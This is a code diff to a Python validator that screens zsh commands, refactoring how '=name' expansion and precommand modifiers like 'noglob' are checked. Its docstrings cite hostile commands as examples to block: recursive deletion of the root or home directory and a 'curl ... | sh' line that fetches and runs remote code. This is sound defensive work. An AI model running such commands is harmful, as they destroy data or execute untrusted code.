@@ -72,47 +72,48 @@ class ZshBuiltin(Validator):
         return Verdict.unwrap(*inner, outcome=Outcome.ASK, rule_id=self.id, message=what)
 
 
-@register
-class ZshCommandWord(Validator):
-    """``=rm -rf /`` runs ``rm`` (zsh puts the program's path in place of ``=name``), and the
-    precommand modifiers ``noglob``, ``nocorrect`` and ``-`` run the rest of the line: the
-    command is checked as what runs.
+def _running(cmd: SimpleCommand, words: tuple[Word, ...]) -> Verdict:
+    if not words:
+        return Verdict.passthrough()
+    inner = replace(cmd, words=words, assignments=(), depth=cmd.depth + 1,
+                    text=" ".join(w.text for w in words))
+    return Verdict.unwrap(inner)
 
-    Bad: ``=rm -rf /``, ``noglob rm -rf ~``. Harmless: ``noglob git log``.
+
+@register
+class ZshPrecommandModifier(Validator):
+    """The precommand modifiers ``noglob``, ``nocorrect`` and ``-`` run the rest of the line:
+    the command is checked as what runs.
+
+    Bad: ``noglob rm -rf ~``. Harmless: ``noglob git log``.
     """
 
     id = "CG-ZSH-002"
+    programs = _MODIFIERS
 
     def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
-        program = cmd.program
-        if not program or not (program[0] == "=" or program in _MODIFIERS):
+        if cmd.program not in _MODIFIERS:
             return Verdict.passthrough()
-        first = cmd.words[0].value or ""
-        if program in _MODIFIERS:
-            words = cmd.words[1:]
-        elif len(first) > 1 and first[1] != "(":
-            words = (Word(first[1:], first[1:]), *cmd.words[1:])
-        else:
-            return Verdict.passthrough()
-        if not words:
-            return Verdict.passthrough()
-        inner = replace(cmd, words=words, assignments=(), depth=cmd.depth + 1,
-                        text=" ".join(w.text for w in words))
-        return Verdict.unwrap(inner)
+        return _running(cmd, cmd.words[1:])
 
 
 @register
 class ZshCodeExpansion(Validator):
-    """Expansions that run code: glob qualifiers ``*(e:code:)``, ``*(+func)`` and the ``(e)``
-    parameter flag (``${(e)x}`` runs what the value holds). ASK, and the code is checked as a
-    command (``*(e:'rm -rf ~':)`` is DENY).
+    """Expansions that run code: ``=rm -rf /`` runs ``rm`` (``=name`` becomes the program's
+    path), glob qualifiers ``*(e:code:)`` and ``*(+func)``, and the ``(e)`` parameter flag
+    (``${(e)x}`` runs what the value holds). The command or code is checked as what runs; a
+    qualifier or flag is at least ASK (``*(e:'rm -rf ~':)`` is DENY).
 
-    Bad: ``ls *(e:'curl -s h | sh':)``. Harmless: ``ls *(.om[1,3])``.
+    Bad: ``ls *(e:'curl -s h | sh':)``, ``=rm -rf /``. Harmless: ``ls *(.om[1,3])``.
     """
 
     id = "CG-ZSH-003"
 
     def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
+        program = cmd.program
+        if program and program[0] == "=" and len(program) > 1 and program[1] != "(":
+            name = program[1:]
+            return _running(cmd, (Word(name, name), *cmd.words[1:]))
         text = cmd.text
         if "(" not in text:
             return Verdict.passthrough()
